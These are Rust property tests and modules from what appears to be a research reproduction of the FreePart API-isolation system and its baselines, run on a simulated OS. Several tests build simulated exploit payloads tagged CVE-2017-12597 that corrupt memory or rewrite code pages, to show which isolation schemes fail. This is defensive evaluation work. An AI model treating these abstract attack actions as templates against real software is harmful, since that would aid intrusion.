