//! Property-based tests (proptest) over the core data structures and
//! invariants of the substrate and the partitioning machinery.

use freepart_suite::analysis::{classify_flows, reduce_flows};
use freepart_suite::core::PartitionPlan;
use freepart_suite::frameworks::api::ApiType;
use freepart_suite::frameworks::image::{self, Image};
use freepart_suite::frameworks::ir::{FlowOp, Storage};
use freepart_suite::frameworks::tensor::Tensor;
use freepart_suite::frameworks::{fileio, Value};
use freepart_suite::simos::ipc::RingChannel;
use freepart_suite::simos::{AddressSpace, Perms, Pid, SyscallFilter, SyscallNo, PAGE_SIZE};
use proptest::prelude::*;
use std::collections::BTreeSet;

fn arb_perms() -> impl Strategy<Value = Perms> {
    prop_oneof![
        Just(Perms::NONE),
        Just(Perms::R),
        Just(Perms::RW),
        Just(Perms::RX),
        Just(Perms::RWX),
    ]
}

proptest! {
    // ------------------------------------------------------------------
    // Memory: reads always return the last write; protection is exact.
    // ------------------------------------------------------------------
    #[test]
    fn mem_write_read_roundtrip(data in proptest::collection::vec(any::<u8>(), 1..8192),
                                offset in 0u64..4096) {
        let mut asp = AddressSpace::new();
        let base = asp.alloc(offset + data.len() as u64 + PAGE_SIZE, Perms::RW);
        let addr = base.offset(offset);
        asp.write(addr, &data).unwrap();
        prop_assert_eq!(asp.read(addr, data.len() as u64).unwrap(), data);
    }

    #[test]
    fn mem_protection_is_enforced_exactly(perms in arb_perms(), len in 1u64..3 * PAGE_SIZE) {
        let mut asp = AddressSpace::new();
        let a = asp.alloc(len, Perms::RW);
        asp.write(a, &[1]).unwrap();
        asp.protect(a, len, perms).unwrap();
        prop_assert_eq!(asp.read(a, 1).is_ok(), perms.readable());
        prop_assert_eq!(asp.write(a, &[2]).is_ok(), perms.writable());
        prop_assert_eq!(asp.fetch(a).is_ok(), perms.executable());
    }

    #[test]
    fn mem_allocations_never_overlap(sizes in proptest::collection::vec(1u64..10_000, 1..20)) {
        let mut asp = AddressSpace::new();
        let mut ranges: Vec<(u64, u64)> = Vec::new();
        for len in sizes {
            let a = asp.alloc(len, Perms::RW);
            for (s, e) in &ranges {
                prop_assert!(a.0 >= *e || a.0 + len <= *s, "overlap");
            }
            ranges.push((a.0, a.0 + len));
        }
    }

    // ------------------------------------------------------------------
    // IPC ring: FIFO per direction, no cross-talk, conservation.
    // ------------------------------------------------------------------
    #[test]
    fn ring_is_fifo_and_conserving(msgs in proptest::collection::vec(
        proptest::collection::vec(any::<u8>(), 0..64), 1..32)) {
        let mut chan = RingChannel::new(Pid(1), Pid(2), 1 << 20);
        for m in &msgs {
            chan.send(Pid(1), bytes::Bytes::copy_from_slice(m), 0).unwrap();
        }
        for m in &msgs {
            let got = chan.try_recv(Pid(2)).unwrap().unwrap();
            prop_assert_eq!(&got.payload[..], &m[..]);
        }
        prop_assert!(chan.try_recv(Pid(2)).unwrap().is_none());
        prop_assert!(chan.try_recv(Pid(1)).unwrap().is_none(), "no cross-talk");
    }

    // ------------------------------------------------------------------
    // Filters: merging only widens; evaluation is consistent with the
    // allowlist.
    // ------------------------------------------------------------------
    #[test]
    fn filter_merge_only_widens(
        a in proptest::collection::btree_set(0usize..SyscallNo::ALL.len(), 0..20),
        b in proptest::collection::btree_set(0usize..SyscallNo::ALL.len(), 0..20),
    ) {
        let to_set = |idx: &BTreeSet<usize>| -> Vec<SyscallNo> {
            idx.iter().map(|i| SyscallNo::ALL[*i]).collect()
        };
        let mut fa = SyscallFilter::allowing(to_set(&a));
        let fb = SyscallFilter::allowing(to_set(&b));
        fa.merge(&fb);
        for no in SyscallNo::ALL {
            let in_either = a.iter().any(|i| SyscallNo::ALL[*i] == *no)
                || b.iter().any(|i| SyscallNo::ALL[*i] == *no);
            prop_assert_eq!(fa.allows_number(*no), in_either);
        }
    }

    // ------------------------------------------------------------------
    // Classification: the reduction is idempotent and classification is
    // total; GUI dominance holds.
    // ------------------------------------------------------------------
    #[test]
    fn classification_total_and_reduction_idempotent(
        ops in proptest::collection::btree_set(
            prop_oneof![
                (0usize..4, 0usize..4).prop_map(|(d, s)| {
                    let st = [Storage::Mem, Storage::Gui, Storage::File, Storage::Dev];
                    FlowOp::write(st[d], st[s])
                }),
                (0usize..4).prop_map(|s| {
                    let st = [Storage::Mem, Storage::Gui, Storage::File, Storage::Dev];
                    FlowOp::Read(st[s])
                }),
            ],
            0..12,
        )
    ) {
        let once = reduce_flows(&ops);
        let twice = reduce_flows(&once);
        prop_assert_eq!(&once, &twice, "reduction idempotent");
        let ty = classify_flows(&ops);
        if ops.iter().any(FlowOp::touches_gui) {
            prop_assert_eq!(ty, ApiType::Visualizing);
        }
    }

    // ------------------------------------------------------------------
    // File formats: image/tensor/CSV encodings roundtrip for any data.
    // ------------------------------------------------------------------
    #[test]
    fn image_file_roundtrip(w in 1u32..32, h in 1u32..32, ch in 1u32..4, seed in any::<u64>()) {
        let mut img = Image::new(w, h, ch);
        for (i, b) in img.data.iter_mut().enumerate() {
            *b = (seed.wrapping_mul(i as u64 + 1) % 256) as u8;
        }
        let bytes = fileio::encode_image(&img, None);
        let (back, payload) = fileio::decode_image(&bytes).unwrap();
        prop_assert_eq!(back, img);
        prop_assert!(payload.is_none());
    }

    #[test]
    fn tensor_file_roundtrip(dims in proptest::collection::vec(1u32..8, 1..4), seed in any::<u32>()) {
        let t = Tensor::generate(&dims, |i| (i as f32 + seed as f32 * 0.001).sin());
        let bytes = fileio::encode_tensor(&t, None);
        let (back, _) = fileio::decode_tensor(&bytes).unwrap();
        prop_assert_eq!(back, t);
    }

    // ------------------------------------------------------------------
    // Image algorithms: geometry invariants for all inputs.
    // ------------------------------------------------------------------
    #[test]
    fn filters_preserve_geometry(w in 2u32..24, h in 2u32..24, seed in any::<u64>()) {
        let mut img = Image::new(w, h, 3);
        for (i, b) in img.data.iter_mut().enumerate() {
            *b = (seed.wrapping_add(i as u64 * 37) % 256) as u8;
        }
        for out in [
            image::gaussian_blur(&img),
            image::erode(&img),
            image::dilate(&img),
            image::equalize_hist(&img),
            image::threshold(&img, 100),
            image::flip_horizontal(&img),
        ] {
            prop_assert_eq!((out.w, out.h, out.ch), (w, h, 3));
            prop_assert_eq!(out.data.len(), (w * h * 3) as usize);
        }
        let gray = image::cvt_color_to_gray(&img);
        prop_assert_eq!((gray.w, gray.h, gray.ch), (w, h, 1));
        // Erosion ≤ original ≤ dilation, pointwise (on gray).
        let e = image::erode(&gray);
        let d = image::dilate(&gray);
        for i in 0..gray.data.len() {
            prop_assert!(e.data[i] <= gray.data[i] && gray.data[i] <= d.data[i]);
        }
    }

    #[test]
    fn contours_are_in_bounds(w in 4u32..24, h in 4u32..24, seed in any::<u64>()) {
        let mut img = Image::new(w, h, 1);
        for (i, b) in img.data.iter_mut().enumerate() {
            *b = if seed.wrapping_add(i as u64 * 131).is_multiple_of(5) {
                255
            } else {
                0
            };
        }
        for r in image::find_contours(&img) {
            prop_assert!(r.x + r.w <= w && r.y + r.h <= h, "box out of bounds: {:?}", r);
            prop_assert!(r.w >= 1 && r.h >= 1);
        }
    }

    // ------------------------------------------------------------------
    // Values: wire size is positive and object-reference-sized for
    // objects regardless of payload.
    // ------------------------------------------------------------------
    #[test]
    fn value_wire_size_sane(n in 0usize..4096) {
        prop_assert_eq!(Value::Bytes(vec![0; n]).wire_size(), n as u64 + 4);
        prop_assert_eq!(
            Value::Obj(freepart_suite::frameworks::ObjectId(n as u64)).wire_size(),
            16
        );
    }

    // ------------------------------------------------------------------
    // Partition plans: routing is total and respects overrides; random
    // splits only touch processing APIs.
    // ------------------------------------------------------------------
    #[test]
    fn random_split_only_moves_processing(n in 4u32..26, seed in any::<u64>()) {
        let reg = freepart_suite::frameworks::registry::standard_registry();
        let universe: Vec<_> = reg.iter().map(|s| s.id).collect();
        let plan = PartitionPlan::random_split(&reg, &universe, n, seed);
        prop_assert_eq!(plan.partition_count(), n);
        let four = PartitionPlan::four();
        for spec in reg.iter() {
            let p = plan.partition_of(spec.id, spec.declared_type);
            if spec.declared_type != ApiType::DataProcessing {
                prop_assert_eq!(p, four.partition_of(spec.id, spec.declared_type));
            }
        }
    }
}
