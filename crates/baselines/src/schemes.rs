//! Constructors for every isolation scheme of Table 1 — the five
//! baselines the paper compares against, plus FreePart itself and the
//! unprotected original.
//!
//! Each baseline is realized as a configuration of the same substrate,
//! matching the paper's framing ("we focus on the isolation/partitioning
//! mechanism of existing techniques"):
//!
//! | Scheme | Mechanism |
//! |---|---|
//! | Code-based API isolation (Privman-style) | 3 partitions (loading / visualizing / everything-else); critical data co-located with the loading code |
//! | Code-based API & data isolation (PtrSplit/PM-style) | same 3 partitions + one dedicated process per critical object, shipped per access |
//! | Library-based, entire library (Codejail-style) | host + one library process running every API, coarse whole-library sandbox (incl. `mprotect`) |
//! | Library-based, individual APIs (sandboxed-api-style) | one process per API, eager full-data marshalling through the host |
//! | Memory-based (Wedge-style data protection) | one process, critical pages read-only after setup |
//! | FreePart | four type-partitions, LDC, temporal permissions, sealed per-agent filters |

use crate::monolithic::MonolithicRuntime;
use crate::surface::ApiSurface;
use freepart::{
    ChannelTransport, HostDataPlacement, PartitionId, PartitionPlan, Policy, RestartPolicy,
    Runtime, SandboxLevel,
};
use freepart_frameworks::api::{ApiId, ApiRegistry, ApiType};
use std::collections::BTreeMap;

/// The seven runtimes the comparison tables rank.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum SchemeKind {
    /// No isolation at all (the normalization baseline).
    Original,
    /// Code-based API isolation (Fig. 2-a).
    CodeApi,
    /// Code-based API *and* data isolation (Fig. 2-b).
    CodeApiData,
    /// Library-based isolation, entire library (Fig. 2-c).
    LibraryEntire,
    /// Library-based isolation, individual APIs (Fig. 2-d).
    LibraryPerApi,
    /// Memory-based data protection.
    MemoryBased,
    /// FreePart.
    FreePart,
}

impl SchemeKind {
    /// All schemes, Table 1 order.
    pub const ALL: [SchemeKind; 7] = [
        SchemeKind::Original,
        SchemeKind::CodeApi,
        SchemeKind::CodeApiData,
        SchemeKind::LibraryEntire,
        SchemeKind::LibraryPerApi,
        SchemeKind::MemoryBased,
        SchemeKind::FreePart,
    ];

    /// Display name used in the report tables.
    pub fn name(self) -> &'static str {
        match self {
            SchemeKind::Original => "Original (no isolation)",
            SchemeKind::CodeApi => "Code-based: API",
            SchemeKind::CodeApiData => "Code-based: API & Data",
            SchemeKind::LibraryEntire => "Library-based: Entire Library",
            SchemeKind::LibraryPerApi => "Library-based: Individual APIs",
            SchemeKind::MemoryBased => "Memory-based",
            SchemeKind::FreePart => "FreePart",
        }
    }
}

fn code_based_plan() -> PartitionPlan {
    // Loading | Visualizing | everything else (processing + storing run
    // with the remaining host code).
    let mut base = BTreeMap::new();
    base.insert(ApiType::DataLoading, PartitionId(0));
    base.insert(ApiType::Visualizing, PartitionId(1));
    base.insert(ApiType::DataProcessing, PartitionId(2));
    base.insert(ApiType::Storing, PartitionId(2));
    PartitionPlan::custom(base)
}

fn baseline_common(policy: Policy) -> Policy {
    Policy {
        temporal_protection: false,
        restart: RestartPolicy::StayDown,
        snapshot_interval: 0,
        colocate_type_neutral: false,
        ..policy
    }
}

/// Builds a runtime for `kind`. `app_universe` is the application's API
/// set — the per-API scheme gives each of them its own process.
pub fn build(kind: SchemeKind, reg: ApiRegistry, app_universe: &[ApiId]) -> Box<dyn ApiSurface> {
    match kind {
        SchemeKind::Original => Box::new(MonolithicRuntime::original(reg)),
        SchemeKind::MemoryBased => Box::new(MonolithicRuntime::memory_based(reg)),
        SchemeKind::CodeApi => {
            let policy = baseline_common(Policy {
                plan: code_based_plan(),
                lazy_data_copy: true,
                sandbox: SandboxLevel::PerAgent,
                host_data: HostDataPlacement::WithType(ApiType::DataLoading),
                ..Policy::default()
            });
            Box::new(Named(Runtime::install(reg, policy), "Code-based: API"))
        }
        SchemeKind::CodeApiData => {
            let policy = baseline_common(Policy {
                plan: code_based_plan(),
                lazy_data_copy: true,
                sandbox: SandboxLevel::PerAgent,
                host_data: HostDataPlacement::OwnProcessEach,
                transport: ChannelTransport::Pipe,
                ..Policy::default()
            });
            Box::new(Named(
                Runtime::install(reg, policy),
                "Code-based: API & Data",
            ))
        }
        SchemeKind::LibraryEntire => {
            let policy = baseline_common(Policy {
                plan: PartitionPlan::single(),
                lazy_data_copy: true,
                sandbox: SandboxLevel::CoarseUnion,
                host_data: HostDataPlacement::Host,
                ..Policy::default()
            });
            Box::new(Named(
                Runtime::install(reg, policy),
                "Library-based: Entire Library",
            ))
        }
        SchemeKind::LibraryPerApi => {
            let plan = PartitionPlan::per_api(app_universe.iter().copied(), &reg);
            let policy = baseline_common(Policy {
                plan,
                lazy_data_copy: false,
                sandbox: SandboxLevel::PerAgent,
                host_data: HostDataPlacement::Host,
                transport: ChannelTransport::Pipe,
                ..Policy::default()
            });
            Box::new(Named(
                Runtime::install(reg, policy),
                "Library-based: Individual APIs",
            ))
        }
        SchemeKind::FreePart => Box::new(Runtime::install(reg, Policy::freepart())),
    }
}

/// Wraps a [`Runtime`] with a baseline scheme name.
pub struct Named(pub Runtime, pub &'static str);

impl ApiSurface for Named {
    fn scheme_name(&self) -> &'static str {
        self.1
    }
    fn call(
        &mut self,
        name: &str,
        args: &[freepart_frameworks::Value],
    ) -> Result<freepart_frameworks::Value, freepart::CallError> {
        self.0.call(name, args)
    }
    fn host_data(&mut self, label: &str, bytes: &[u8]) -> freepart_frameworks::ObjectId {
        self.0.host_data(label, bytes)
    }
    fn create_object(
        &mut self,
        kind: freepart_frameworks::ObjectKind,
        label: &str,
        bytes: &[u8],
    ) -> freepart_frameworks::ObjectId {
        self.0.host_object(kind, label, bytes)
    }
    fn fetch_bytes(
        &mut self,
        id: freepart_frameworks::ObjectId,
    ) -> Result<Vec<u8>, freepart::CallError> {
        self.0.fetch_bytes(id)
    }
    fn kernel_mut(&mut self) -> &mut freepart_simos::Kernel {
        &mut self.0.kernel
    }
    fn kernel(&self) -> &freepart_simos::Kernel {
        &self.0.kernel
    }
    fn objects(&self) -> &freepart_frameworks::ObjectStore {
        &self.0.objects
    }
    fn host_pid(&self) -> freepart_simos::Pid {
        self.0.host_pid()
    }
    fn exploit_log(&self) -> &[freepart_frameworks::ActionReport] {
        &self.0.exploit_log
    }
    fn attack_view(
        &mut self,
    ) -> (
        &mut freepart_simos::Kernel,
        &freepart_frameworks::ObjectStore,
        freepart_simos::Pid,
    ) {
        let host = self.0.host_pid();
        (&mut self.0.kernel, &self.0.objects, host)
    }
    fn code_target(&mut self) -> u64 {
        let imread = self
            .0
            .registry()
            .id_of("cv2.imread")
            .expect("catalog has imread");
        let partition = self.0.partition_of(imread);
        self.0
            .agent(partition)
            .expect("loading agent exists")
            .code_page
            .0
    }
    fn process_count(&self) -> usize {
        self.0.kernel.process_count()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use freepart_frameworks::registry::standard_registry;
    use freepart_frameworks::{fileio, image::Image, ExploitAction, ExploitPayload, Value};

    fn universe(reg: &ApiRegistry) -> Vec<ApiId> {
        [
            "cv2.imread",
            "cv2.GaussianBlur",
            "cv2.erode",
            "cv2.imshow",
            "cv2.imwrite",
        ]
        .iter()
        .map(|n| reg.id_of(n).unwrap())
        .collect()
    }

    fn seed(surface: &mut dyn ApiSurface, path: &str, payload: Option<&ExploitPayload>) {
        let img = Image::new(16, 16, 3);
        surface
            .kernel_mut()
            .fs
            .put(path, fileio::encode_image(&img, payload));
    }

    #[test]
    fn every_scheme_runs_the_pipeline() {
        let reg0 = standard_registry();
        let uni = universe(&reg0);
        for kind in SchemeKind::ALL {
            let mut s = build(kind, standard_registry(), &uni);
            seed(s.as_mut(), "/in.simg", None);
            s.finish_setup();
            let img = s.call("cv2.imread", &[Value::from("/in.simg")]).unwrap();
            let b = s.call("cv2.GaussianBlur", &[img]).unwrap();
            s.call("cv2.imwrite", &[Value::from("/out.simg"), b])
                .unwrap();
            assert!(
                s.kernel().fs.exists("/out.simg"),
                "{}: output missing",
                kind.name()
            );
        }
    }

    #[test]
    fn process_counts_match_table1() {
        let reg0 = standard_registry();
        let uni = universe(&reg0);
        let counts: Vec<(SchemeKind, usize)> = SchemeKind::ALL
            .iter()
            .map(|&k| {
                let mut s = build(k, standard_registry(), &uni);
                let mut created = 0;
                if k == SchemeKind::CodeApiData {
                    // Data processes appear when critical data is declared.
                    s.host_data("template", &[0; 32]);
                    s.host_data("OMRCrop", &[0; 32]);
                    created = 2;
                }
                (k, s.process_count() - created + created) // keep raw
            })
            .collect();
        let get = |k: SchemeKind| counts.iter().find(|(x, _)| *x == k).unwrap().1;
        assert_eq!(get(SchemeKind::Original), 1);
        assert_eq!(get(SchemeKind::MemoryBased), 1);
        assert_eq!(get(SchemeKind::CodeApi), 4); // host + 3 partitions
        assert_eq!(get(SchemeKind::CodeApiData), 6); // + 2 data processes
        assert_eq!(get(SchemeKind::LibraryEntire), 2);
        assert_eq!(get(SchemeKind::LibraryPerApi), 1 + 4 + uni.len()); // host + type fallbacks + per-API
        assert_eq!(get(SchemeKind::FreePart), 5);
    }

    #[test]
    fn code_api_baseline_leaves_template_corruptible() {
        // Fig. 2-a's weakness: template lives in the same process as the
        // vulnerable imread.
        let reg = standard_registry();
        let uni = universe(&reg);
        let mut s = build(SchemeKind::CodeApi, standard_registry(), &uni);
        let template = s.host_data("template", b"answers!");
        s.finish_setup();
        let addr = s.objects().meta(template).unwrap().buffer.unwrap().0;
        let payload = ExploitPayload {
            cve: "CVE-2017-12597".into(),
            actions: vec![ExploitAction::WriteMem {
                addr: addr.0,
                bytes: b"EVILEVIL".to_vec(),
            }],
        };
        seed(s.as_mut(), "/evil.simg", Some(&payload));
        s.call("cv2.imread", &[Value::from("/evil.simg")]).unwrap();
        assert!(s.exploit_log().last().unwrap().outcome.achieved());
        assert_eq!(s.fetch_bytes(template).unwrap(), b"EVILEVIL");
    }

    #[test]
    fn code_api_data_baseline_protects_but_pays_in_ipc() {
        let reg = standard_registry();
        let uni = universe(&reg);
        let mut s = build(SchemeKind::CodeApiData, standard_registry(), &uni);
        let template = s.host_data("template", b"answers!");
        s.finish_setup();
        let addr = s.objects().meta(template).unwrap().buffer.unwrap().0;
        let payload = ExploitPayload {
            cve: "CVE-2017-12597".into(),
            actions: vec![ExploitAction::WriteMem {
                addr: addr.0,
                bytes: b"EVILEVIL".to_vec(),
            }],
        };
        seed(s.as_mut(), "/evil.simg", Some(&payload));
        let _ = s.call("cv2.imread", &[Value::from("/evil.simg")]);
        // Data survived: it lives in its own process.
        assert_eq!(s.fetch_bytes(template).unwrap(), b"answers!");
        assert!(!s.exploit_log().last().unwrap().outcome.achieved());
        // But every host access ships it around.
        let before = s.kernel().metrics().copied_bytes;
        for _ in 0..10 {
            s.fetch_bytes(template).unwrap();
        }
        assert!(s.kernel().metrics().copied_bytes > before);
    }

    #[test]
    fn library_entire_allows_code_rewrite_inside_the_library() {
        let reg = standard_registry();
        let uni = universe(&reg);
        let mut s = build(SchemeKind::LibraryEntire, standard_registry(), &uni);
        seed(s.as_mut(), "/warm.simg", None);
        s.call("cv2.imread", &[Value::from("/warm.simg")]).unwrap();
        // Target the library process's own memory: a page that is RX.
        let lib_pid = s
            .objects()
            .iter()
            .next()
            .map(|m| m.home)
            .expect("library object exists");
        let code = s
            .kernel_mut()
            .alloc(lib_pid, 4096, freepart_simos::Perms::RX)
            .unwrap();
        let payload = ExploitPayload {
            cve: "CVE-2017-12597".into(),
            actions: vec![ExploitAction::RewriteCode { addr: code.0 }],
        };
        seed(s.as_mut(), "/evil.simg", Some(&payload));
        s.call("cv2.imread", &[Value::from("/evil.simg")]).unwrap();
        // Coarse whole-library sandbox includes mprotect: the rewrite
        // landed (Table 1 row 3: C not prevented).
        assert!(s.exploit_log().last().unwrap().outcome.achieved());
    }

    #[test]
    fn per_api_scheme_moves_far_more_bytes_than_freepart() {
        let reg0 = standard_registry();
        let uni = universe(&reg0);
        let run = |kind: SchemeKind| {
            let mut s = build(kind, standard_registry(), &uni);
            seed(s.as_mut(), "/in.simg", None);
            s.finish_setup();
            let img = s.call("cv2.imread", &[Value::from("/in.simg")]).unwrap();
            let a = s.call("cv2.GaussianBlur", &[img]).unwrap();
            let b = s.call("cv2.erode", &[a]).unwrap();
            s.call("cv2.imwrite", &[Value::from("/o.simg"), b]).unwrap();
            s.kernel().metrics().copied_bytes
        };
        let per_api = run(SchemeKind::LibraryPerApi);
        let freepart = run(SchemeKind::FreePart);
        assert!(
            per_api as f64 > 2.0 * freepart as f64,
            "per-API {per_api}B vs FreePart {freepart}B"
        );
    }
}
