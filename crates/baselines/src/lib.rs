//! # freepart-baselines — the comparison isolation schemes
//!
//! Re-implementations (on the same `simos` substrate) of the five
//! baseline techniques FreePart is compared against in Table 1 /
//! Table 9 / Table 10, plus the unprotected original program and a
//! uniform [`ApiSurface`] trait so one application pipeline can be
//! driven under every scheme.

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod monolithic;
pub mod schemes;
pub mod surface;

pub use monolithic::MonolithicRuntime;
pub use schemes::{build, SchemeKind};
pub use surface::ApiSurface;
