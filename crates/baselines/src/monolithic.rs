//! The unpartitioned runtimes: the original program (one process, no
//! protection) and the memory-based data-protection baseline on top of
//! it (critical pages go read-only after setup; no process isolation,
//! no syscall restriction — Table 1 row 5).

use crate::surface::ApiSurface;
use freepart::{CallError, PartitionId};
use freepart_frameworks::api::ApiRegistry;
use freepart_frameworks::exec::execute;
use freepart_frameworks::{ActionReport, ApiCtx, ObjectId, ObjectKind, ObjectStore, Value};
use freepart_simos::{Kernel, Perms, Pid};

/// A single-process runtime executing every API in the application's
/// own address space.
pub struct MonolithicRuntime {
    /// The simulated OS.
    pub kernel: Kernel,
    /// Live framework objects.
    pub objects: ObjectStore,
    reg: ApiRegistry,
    pid: Pid,
    exploit_log: Vec<ActionReport>,
    readonly_critical: bool,
    criticals: Vec<ObjectId>,
    calls: u64,
}

impl MonolithicRuntime {
    /// The unprotected original program.
    pub fn original(reg: ApiRegistry) -> MonolithicRuntime {
        MonolithicRuntime::build(reg, false)
    }

    /// The memory-based protection baseline: after
    /// [`ApiSurface::finish_setup`], critical data pages are read-only.
    pub fn memory_based(reg: ApiRegistry) -> MonolithicRuntime {
        MonolithicRuntime::build(reg, true)
    }

    fn build(reg: ApiRegistry, readonly_critical: bool) -> MonolithicRuntime {
        let mut kernel = Kernel::new();
        let pid = kernel.spawn("app");
        MonolithicRuntime {
            kernel,
            objects: ObjectStore::new(),
            reg,
            pid,
            exploit_log: Vec::new(),
            readonly_critical,
            criticals: Vec::new(),
            calls: 0,
        }
    }

    /// The API registry in force.
    pub fn registry(&self) -> &ApiRegistry {
        &self.reg
    }

    /// Completed calls.
    pub fn calls(&self) -> u64 {
        self.calls
    }
}

impl ApiSurface for MonolithicRuntime {
    fn scheme_name(&self) -> &'static str {
        if self.readonly_critical {
            "Memory-based"
        } else {
            "Original (no isolation)"
        }
    }

    fn call(&mut self, name: &str, args: &[Value]) -> Result<Value, CallError> {
        let api = self
            .reg
            .id_of(name)
            .ok_or_else(|| CallError::UnknownApi(name.to_owned()))?;
        if !self.kernel.is_running(self.pid) {
            // One process: any crash takes the whole application down.
            return Err(CallError::AgentUnavailable(PartitionId(0)));
        }
        let mut ctx = ApiCtx::new(&mut self.kernel, &mut self.objects, self.pid);
        let result = execute(&self.reg, api, args, &mut ctx);
        let log = std::mem::take(&mut ctx.exploit_log);
        drop(ctx);
        self.exploit_log.extend(log);
        match result {
            Ok(v) => {
                self.calls += 1;
                Ok(v)
            }
            Err(e) if e.is_crash() => Err(CallError::AgentCrashed(PartitionId(0))),
            Err(e) => Err(CallError::Framework(e)),
        }
    }

    fn host_data(&mut self, label: &str, bytes: &[u8]) -> ObjectId {
        let id = self
            .objects
            .create_with_data(&mut self.kernel, self.pid, ObjectKind::Blob, label, bytes)
            .expect("app process alive at setup");
        self.criticals.push(id);
        id
    }

    fn create_object(&mut self, kind: ObjectKind, label: &str, bytes: &[u8]) -> ObjectId {
        self.objects
            .create_with_data(&mut self.kernel, self.pid, kind, label, bytes)
            .expect("app process alive")
    }

    fn fetch_bytes(&mut self, id: ObjectId) -> Result<Vec<u8>, CallError> {
        self.objects
            .read_bytes(&mut self.kernel, id)
            .map_err(|_| CallError::StateLost(id))
    }

    fn kernel_mut(&mut self) -> &mut Kernel {
        &mut self.kernel
    }

    fn kernel(&self) -> &Kernel {
        &self.kernel
    }

    fn objects(&self) -> &ObjectStore {
        &self.objects
    }

    fn host_pid(&self) -> Pid {
        self.pid
    }

    fn exploit_log(&self) -> &[ActionReport] {
        &self.exploit_log
    }

    fn attack_view(&mut self) -> (&mut Kernel, &ObjectStore, Pid) {
        (&mut self.kernel, &self.objects, self.pid)
    }

    fn code_target(&mut self) -> u64 {
        // The application's own text segment (simulated).
        self.kernel
            .alloc(self.pid, freepart_simos::PAGE_SIZE, Perms::RX)
            .expect("app alive")
            .0
    }

    fn process_count(&self) -> usize {
        1
    }

    fn finish_setup(&mut self) {
        if !self.readonly_critical {
            return;
        }
        // Memory-based protection: lock the annotated pages read-only
        // (the paper's sophisticated dependency analysis decided which;
        // here the annotations are explicit).
        for id in self.criticals.clone() {
            if let Some(meta) = self.objects.meta(id) {
                if let Some((addr, len)) = meta.buffer {
                    let home = meta.home;
                    let _ = self.kernel.protect(home, addr, len, Perms::R);
                }
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use freepart_frameworks::registry::standard_registry;
    use freepart_frameworks::{fileio, image::Image, ExploitAction, ExploitPayload};

    fn seed(rt: &mut MonolithicRuntime, path: &str, payload: Option<&ExploitPayload>) {
        let img = Image::new(8, 8, 3);
        rt.kernel.fs.put(path, fileio::encode_image(&img, payload));
    }

    #[test]
    fn original_runs_pipeline_in_one_process() {
        let mut rt = MonolithicRuntime::original(standard_registry());
        seed(&mut rt, "/in.simg", None);
        let img = rt.call("cv2.imread", &[Value::from("/in.simg")]).unwrap();
        rt.call("cv2.GaussianBlur", &[img]).unwrap();
        assert_eq!(rt.process_count(), 1);
        assert_eq!(rt.kernel.metrics().ipc_messages, 0, "no IPC at all");
        assert_eq!(
            rt.kernel.metrics().copied_bytes,
            0,
            "no cross-process copies"
        );
    }

    #[test]
    fn original_lets_exploit_corrupt_critical_data() {
        let mut rt = MonolithicRuntime::original(standard_registry());
        let secret = rt.host_data("template", b"KEY!");
        rt.finish_setup();
        let addr = rt.objects.meta(secret).unwrap().buffer.unwrap().0;
        let payload = ExploitPayload {
            cve: "CVE-2017-12597".into(),
            actions: vec![ExploitAction::WriteMem {
                addr: addr.0,
                bytes: b"EVIL".to_vec(),
            }],
        };
        seed(&mut rt, "/evil.simg", Some(&payload));
        rt.call("cv2.imread", &[Value::from("/evil.simg")]).unwrap();
        assert_eq!(
            rt.fetch_bytes(secret).unwrap(),
            b"EVIL",
            "corruption landed"
        );
    }

    #[test]
    fn memory_based_blocks_the_write_but_dies_doing_it() {
        let mut rt = MonolithicRuntime::memory_based(standard_registry());
        let secret = rt.host_data("template", b"KEY!");
        rt.finish_setup();
        let addr = rt.objects.meta(secret).unwrap().buffer.unwrap().0;
        let payload = ExploitPayload {
            cve: "CVE-2017-12597".into(),
            actions: vec![ExploitAction::WriteMem {
                addr: addr.0,
                bytes: b"EVIL".to_vec(),
            }],
        };
        seed(&mut rt, "/evil.simg", Some(&payload));
        let err = rt
            .call("cv2.imread", &[Value::from("/evil.simg")])
            .unwrap_err();
        // The write faulted — data protected — but the fault killed the
        // only process: the DoS the paper's Table 1 row 5 concedes.
        assert!(matches!(err, CallError::AgentCrashed(_)));
        assert!(!rt.kernel.is_running(rt.host_pid()));
        seed(&mut rt, "/ok.simg", None);
        assert!(matches!(
            rt.call("cv2.imread", &[Value::from("/ok.simg")]),
            Err(CallError::AgentUnavailable(_))
        ));
    }

    #[test]
    fn memory_based_does_not_stop_code_rewrite() {
        let mut rt = MonolithicRuntime::memory_based(standard_registry());
        rt.finish_setup();
        let code = rt.kernel.alloc(rt.host_pid(), 4096, Perms::RX).unwrap();
        let payload = ExploitPayload {
            cve: "CVE-2017-12597".into(),
            actions: vec![ExploitAction::RewriteCode { addr: code.0 }],
        };
        seed(&mut rt, "/evil.simg", Some(&payload));
        rt.call("cv2.imread", &[Value::from("/evil.simg")]).unwrap();
        // No syscall filter: mprotect + patch both succeeded.
        assert!(rt.exploit_log().last().unwrap().outcome.achieved());
    }
}
