//! A uniform driving surface over every isolation scheme.
//!
//! The evaluation runs the *same* application pipeline under FreePart,
//! the five baselines of Table 1, and the unprotected original;
//! [`ApiSurface`] is the interface those pipelines are written against.

use freepart::{CallError, Runtime};
use freepart_frameworks::{ActionReport, ObjectId, Value};
use freepart_simos::{Kernel, Pid};

/// Anything an application pipeline needs from its runtime.
pub trait ApiSurface {
    /// Human-readable scheme name ("FreePart", "Library (entire)", ...).
    fn scheme_name(&self) -> &'static str;

    /// Invokes a framework API by qualified name.
    ///
    /// # Errors
    ///
    /// Scheme-specific containment failures surface as [`CallError`].
    fn call(&mut self, name: &str, args: &[Value]) -> Result<Value, CallError>;

    /// Allocates host-application critical data (participates in
    /// whatever data protection the scheme offers).
    fn host_data(&mut self, label: &str, bytes: &[u8]) -> ObjectId;

    /// Creates a host-homed object of an arbitrary kind (pipeline
    /// plumbing: pre-existing models, figures, tables).
    fn create_object(
        &mut self,
        kind: freepart_frameworks::ObjectKind,
        label: &str,
        bytes: &[u8],
    ) -> ObjectId;

    /// Host-side dereference of an object's payload.
    ///
    /// # Errors
    ///
    /// [`CallError::StateLost`] when the payload died with a process.
    fn fetch_bytes(&mut self, id: ObjectId) -> Result<Vec<u8>, CallError>;

    /// Mutable kernel access (seeding files, devices, inspecting state).
    fn kernel_mut(&mut self) -> &mut Kernel;

    /// Shared kernel access.
